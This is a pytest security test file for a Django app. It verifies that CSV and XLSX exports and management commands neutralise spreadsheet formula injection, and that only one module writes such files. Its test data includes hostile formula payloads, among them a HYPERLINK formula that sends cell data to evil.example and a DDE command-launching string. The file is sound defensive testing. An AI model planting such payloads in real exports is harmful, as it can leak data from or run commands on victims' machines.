"""Formula injection: no CSV or XLSX the product makes runs text as a formula.

A name, a job title, a site's code or a survey title typed as `=HYPERLINK(...)` or `@SUM(...)` must reach a
spreadsheet as text. The walk finds every download: each URL of the authorisation matrix fetched as a programme admin
(also with `?format=csv` and `?format=xlsx`, as the matrix page offers), and every management command with a CSV
format. A new writer that does not go through core/spreadsheets.py fails here, and so does a new download that
writes formulas."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.core.management import call_command, get_commands, load_command_class
from django.urls import reverse
from openpyxl import load_workbook

from audit.models import AuditAction
from audit.services import record_event
from evaluation.models import Survey
from members.models import User
from sites.models import Site
from tests.security.matrix import MATRIX, OK

# One payload per dangerous first character; each is unique so the test can find where it landed.
PAYLOADS = {
    "site_code": "=1+2",
    "town": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "name": "@SUM(1+9)*cmd|' /C calc'!A0",
    "job_title": "+44 formula title",
    "agency": "-2+3 agency",
    "survey_title": "\t=cmd tab survey",
    "audit_detail": "\r=cr audit detail",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CSV_TYPE, XLSX_TYPE = "text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
WRITER = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bopenpyxl\b|\bxlsxwriter\b")


def _plant_hostile_text(world) -> None:
    Site.objects.filter(pk=world.site.pk).update(code=PAYLOADS["site_code"], town=PAYLOADS["town"])
    User.objects.filter(pk=world.people["member"].pk).update(
        name=PAYLOADS["name"], job_title=PAYLOADS["job_title"], agency=PAYLOADS["agency"]
    )
    for state in ("draft", "open"):
        Survey.objects.filter(pk=world.survey(state).pk).update(title=PAYLOADS["survey_title"])
    record_event(actor=world.people["member"], action=AuditAction.VIEWED, detail=PAYLOADS["audit_detail"])


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]


def _unsafe_csv_cells(body: bytes) -> list[str]:
    return [cell for cell in _csv_cells(body) if cell.startswith(FORMULA_START)]


def _xlsx_cells(body: bytes) -> list:
    workbook = load_workbook(io.BytesIO(body))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _unsafe_xlsx_cells(body: bytes) -> list[str]:
    return [f"{cell.coordinate}={cell.value!r}" for cell in _xlsx_cells(body) if cell.data_type == "f"]


def _payloads_in(text: str) -> set[str]:
    return {key for key, payload in PAYLOADS.items() if payload.strip() in text}


def _downloads(client, world) -> dict[str, object]:
    """Every CSV or XLSX a programme admin can download, by the URL fetched."""
    found = {}
    for key, entry in sorted(MATRIX.items()):
        if entry.get.get("admin") != OK:
            continue
        url = reverse(key.split("@")[0], args=entry.args(world) if entry.args else None)
        response = client.get(url)
        candidates = [(url, response)]
        if response.status_code == 200 and response.get("Content-Type", "").startswith("text/html"):
            candidates += [(f"{url}?format={fmt}", client.get(url, {"format": fmt})) for fmt in ("csv", "xlsx")]
        for fetched, answer in candidates:
            kind = answer.get("Content-Type", "")
            if answer.status_code == 200 and kind.startswith((CSV_TYPE, XLSX_TYPE)):
                found[fetched] = answer
    return found


@pytest.mark.django_db
def test_every_download_writes_formula_text_as_text(client, world):
    _plant_hostile_text(world)
    client.force_login(world.people["admin"])
    downloads = _downloads(client, world)
    expected = {"/audit/export.csv", "/sites/matrix/?format=csv", "/sites/matrix/?format=xlsx"}
    assert expected <= set(downloads), f"downloads not found by the walk: {sorted(expected - set(downloads))}"
    assert any(url.endswith(".xlsx") for url in downloads) and any(url.endswith(".csv") for url in downloads)
    problems, reached = [], set()
    for url, response in downloads.items():
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if response["Content-Type"].startswith(CSV_TYPE):
            unsafe, text = _unsafe_csv_cells(body), "\n".join(_csv_cells(body))
        else:
            unsafe = _unsafe_xlsx_cells(body)
            text = "\n".join(str(c.value) for c in _xlsx_cells(body) if c.value is not None)
            # A formula-looking text cell is stored as text: the cell type is "s", never "f".
        if unsafe:
            problems.append(f"{url}: {unsafe[:3]}")
        found = _payloads_in(text)
        if not found:
            problems.append(f"{url}: none of the planted text reached the file, so the walk proves nothing for it")
        reached |= found
    assert not problems, "\n".join(problems)
    print(f"\n{len(downloads)} downloads checked for formula injection: {sorted(downloads)}")


def _csv_commands() -> list[tuple[str, str]]:
    """Our management commands that can print CSV, with the option that asks for it."""
    root = Path(settings.BASE_DIR).resolve()
    ours = {c.name for c in apps.get_app_configs() if Path(c.path).resolve().parent == root}
    found = []
    for name, app in sorted(get_commands().items()):
        if app not in ours:
            continue
        parser = load_command_class(app, name).create_parser("manage.py", name)
        for action in parser._actions:
            if action.choices and "csv" in action.choices:
                found.append((name, action.option_strings[0]))
    return found


@pytest.mark.django_db
def test_every_management_command_that_prints_csv_writes_formula_text_as_text(world):
    _plant_hostile_text(world)
    commands = _csv_commands()
    assert ("membership_matrix", "--format") in commands
    problems = []
    for name, option in commands:
        out = io.StringIO()
        call_command(name, option, "csv", stdout=out)
        body = out.getvalue().encode()
        if unsafe := _unsafe_csv_cells(body):
            problems.append(f"manage.py {name} {option} csv: {unsafe[:3]}")
        if not _payloads_in(out.getvalue()):
            problems.append(f"manage.py {name}: none of the planted text reached the output")
    assert not problems, "\n".join(problems)


def test_only_core_spreadsheets_writes_csv_or_xlsx():
    """One writer: any other module that builds CSV or XLSX itself would bypass the formula escaping."""
    root = Path(settings.BASE_DIR)
    skip = {".venv", "node_modules", "tests", ".tools"}
    writers = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in skip or str(relative) == "core/spreadsheets.py":
            continue
        if WRITER.search(path.read_text(encoding="utf-8")):
            writers.append(str(relative))
    assert writers == [], f"write CSV and XLSX through core.spreadsheets (csv_writer, to_csv, to_xlsx): {writers}"
